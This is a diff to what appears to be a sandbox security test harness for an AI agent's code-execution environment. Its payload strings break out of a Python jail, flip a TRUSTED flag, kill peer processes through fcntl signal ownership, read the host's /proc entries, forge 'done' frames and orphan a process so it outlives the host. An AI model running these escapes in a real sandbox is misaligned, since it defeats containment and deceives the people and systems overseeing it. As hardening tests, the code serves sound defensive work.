@@ -30,11 +30,12 @@ PRE = ("g = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 
        "g['sys'].modules['__main__'].TRUSTED[0] = 1\n"
        "C = g['sys'].modules['ctypes'].CDLL(None, use_errno=True)\n"
        "send = view_inventory.__globals__['send']\n"
+       "ct_errno = g['sys'].modules['ctypes'].get_errno\n"
        "cell_n = int(g['sys']._getframe(0).f_code.co_filename[6:-1])\n")
 # fcntl: F_GETFL 3, F_SETFL 4, F_SETOWN 8, F_SETSIG 10; O_ASYNC 0o20000. The signal fires when the host writes the
 # attacker's next tool reply.
-ASYNC_OWNER = PRE + "C.fcntl(0, 4, C.fcntl(0, 3) | 0o20000)\nC.fcntl(0, 8, {owner})\nC.fcntl(0, 10, {sig})\n" \
-    "view_inventory()\nview_inventory()\nprint('armed')"
+ASYNC_OWNER = PRE + "r = [C.fcntl(0, 4, C.fcntl(0, 3) | 0o20000), C.fcntl(0, 8, {owner}), C.fcntl(0, 10, {sig})]\n" \
+    "view_inventory()\nview_inventory()\nprint('armed', r, 'errno', C.__class__.__module__ and ct_errno())"
 CELLS = {
     "peer": {
         "fcntl_sigkill_peer": ASYNC_OWNER.replace("{owner}", "{victim}").replace("{sig}", "9"),
@@ -58,7 +59,7 @@ CELLS = {
         "call_id_list": PRE + "send({{'t': 'call', 'id': [1], 'name': 'launch_subagent', 'a': {{'l': []}}, "
                               "'k': {{'d': []}}, 'async': True}})\nimport time\ntime.sleep(1.5)",
         "colliding_int_keys": PRE + "P = 2 ** 61 - 1\nsend({{'t': 'call', 'id': 5, 'name': 'view_inventory', "
-                                    "'a': {{'l': [{{'d': [[k * P, 0] for k in range(1, 40000)]}}]}}, "
+                                    "'a': {{'l': [{{'d': [[k * P, 0] for k in range(1, 30000)]}}]}}, "
                                     "'k': {{'d': []}}, 'async': False}})\nimport time\ntime.sleep(1.5)",
         "frame_not_an_object": PRE + "send([1, 2, 3])\nview_inventory()",
         "done_with_wrong_types": PRE + "send({{'t': 'done', 'n': cell_n, 'out': {{'d': 1}}, 'err': [1], "
@@ -73,7 +74,12 @@ CELLS = {
         "proc_host_cwd": PRE + "print(g['readlink']('/proc/{host}/cwd'))",
     },
 }
-ORPHAN = PRE + "print(C.prctl(1, 0, 0, 0, 0), g['setsid']())"  # PR_SET_PDEATHSIG 0, own session: outlive the host
+# Outlive the host: no parent-death signal (PR_SET_PDEATHSIG 0), its own session, a forged "done", no timers, and
+# never read the pipe again (a sandbox blocked on it would see the host's end close).
+ORPHAN = PRE + ("sig = g['sys'].modules['signal']\nr = [C.prctl(1, 0, 0, 0, 0)]\ntry:\n    g['setsid']()\n"
+                "except OSError as e:\n    r.append(repr(e))\nsig.setitimer(sig.ITIMER_PROF, 0)\n"
+                "sig.setitimer(sig.ITIMER_REAL, 0)\n"
+                "send({'t': 'done', 'n': cell_n, 'out': str(r), 'err': '', 'ok': True})\nwhile True:\n    pass")
 
 
 def cpu_seconds(pid: int) -> float | None:
